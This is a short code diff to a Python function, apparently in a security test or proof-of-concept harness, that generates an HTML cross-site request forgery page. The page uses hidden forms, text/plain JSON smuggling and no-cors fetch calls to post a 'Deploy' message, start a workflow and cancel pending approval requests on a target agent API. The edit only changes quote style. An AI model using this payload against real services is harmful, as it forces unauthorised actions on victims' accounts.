@@ -87,7 +87,7 @@ def attack_page(target: str, asks: dict[str, str], receiver: Receiver) -> str:
     start = json.dumps({"conversation_id": "evil-flow"})
     return f"""<!doctype html><html><body>
 <iframe name="sink"></iframe>
-<form id="cancel" method="POST" action="{target}/v1/asks/{asks['text']}/cancel" target="sink"></form>
+<form id="cancel" method="POST" action="{target}/v1/asks/{asks["text"]}/cancel" target="sink"></form>
 <form id="plain" method="POST" enctype="text/plain" target="sink"
       action="{target}/v1/conversations/victim-deploy/messages">
   <input name='{{"text": "1", "x": "' value='"}}'>
@@ -101,7 +101,7 @@ def attack_page(target: str, asks: dict[str, str], receiver: Receiver) -> str:
         {{method: "POST", mode: "no-cors", body: blob('{{"text": "Deploy"}}')}});
   fetch(T + "/v1/workflows/uml/start", {{method: "POST", mode: "no-cors", body: blob({json.dumps(start)})}});
   fetch(T + "/v1/asks", {{method: "POST", mode: "no-cors", body: blob({json.dumps(park)})}});
-  fetch(T + "/v1/asks/{asks['deploy']}/cancel", {{method: "POST", mode: "no-cors"}});
+  fetch(T + "/v1/asks/{asks["deploy"]}/cancel", {{method: "POST", mode: "no-cors"}});
 </script></body></html>"""
 
 
